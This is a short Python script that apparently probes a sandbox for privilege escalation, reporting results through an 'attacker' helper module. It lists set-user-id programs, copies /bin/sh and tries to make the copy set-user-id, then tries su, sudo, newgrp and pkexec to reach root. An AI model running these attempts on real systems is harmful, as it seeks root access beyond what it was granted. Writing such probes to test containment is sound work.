"""Runs programs that have a set-user-id bit or file capabilities, and makes one of its own."""

import contextlib
import os
import shutil
import stat
import subprocess

from attacker import got, tried

found = []
for folder in ("/usr/bin", "/usr/sbin", "/bin", "/usr/lib", "/usr/libexec"):
    with contextlib.suppress(OSError):
        for entry in os.scandir(folder):
            with contextlib.suppress(OSError):
                if entry.stat().st_mode & (stat.S_ISUID | stat.S_ISGID):
                    found.append(entry.path)
tried(f"{len(found)} programs")
shutil.copy("/bin/sh", "own")
for mode in (0o4755, 0o6755):
    with contextlib.suppress(OSError):
        os.chmod("own", mode)
for command in (
    ["./own", "-p", "-c", "id -u"],
    ["su", "-c", "id -u"],
    ["sudo", "-n", "id", "-u"],
    ["newgrp", "root", "-c", "id -g"],
    ["pkexec", "id", "-u"],
):
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        done = subprocess.run(
            command, capture_output=True, timeout=0.3, stdin=subprocess.DEVNULL, check=False
        )
        if done.stdout.strip() == b"0":
            got(f"{command[0]} ran as root")
with open("/proc/self/status", encoding="utf-8") as file:
    status = file.read()
if "NoNewPrivs:\t1" not in status:
    got("new privileges are not forbidden")
